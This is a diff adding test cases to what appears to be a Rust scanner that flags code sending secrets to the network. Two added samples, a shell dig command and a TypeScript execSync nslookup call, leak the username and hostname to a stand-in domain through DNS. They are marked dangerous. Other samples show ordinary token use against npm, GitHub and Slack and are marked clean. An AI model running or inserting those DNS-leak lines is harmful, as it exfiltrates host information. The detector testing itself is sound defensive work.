@@ -116,6 +116,21 @@ fn sources_reaching_sinks() {
         "env-to-output",
         "whole environment",
     );
+    // A name looked up in DNS leaves the machine; so does data in a command run from a string.
+    check(
+        Sh,
+        "dig +short \"$(whoami).$(hostname).n.example.net\"\n",
+        Dangerous,
+        "secret-to-network",
+        "DNS lookup",
+    );
+    check(
+        Ts,
+        "import { execSync } from 'node:child_process';\nimport { hostname } from 'node:os';\nexecSync(`nslookup ${hostname()}.n.example.net`);\n",
+        Dangerous,
+        "secret-to-network",
+        "host info",
+    );
 }
 
 #[test]
@@ -144,6 +159,27 @@ fn tokens_used_for_their_own_api_are_clean() {
     check(
         Sh,
         "curl -fsS -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models | jq '.data | length'\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Js,
+        "const https = require('https');\nconst t = process.env.NPM_TOKEN;\nhttps.get({ host: 'registry.npmjs.org', path: '/-/whoami', headers: { authorization: `Bearer ${t}` } }, (r) => r.pipe(process.stdout));\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Js,
+        "const axios = require('axios');\nconst r = await axios.get('https://api.github.com/user/repos', { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });\nconsole.log(r.data.length);\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import json, os, urllib.request\nreq = urllib.request.Request('https://slack.com/api/chat.postMessage', data=json.dumps({'text': 'done'}).encode(), headers={'Authorization': 'Bearer ' + os.environ['SLACK_BOT_TOKEN']})\nurllib.request.urlopen(req)\n",
         Clean,
         "",
         "",
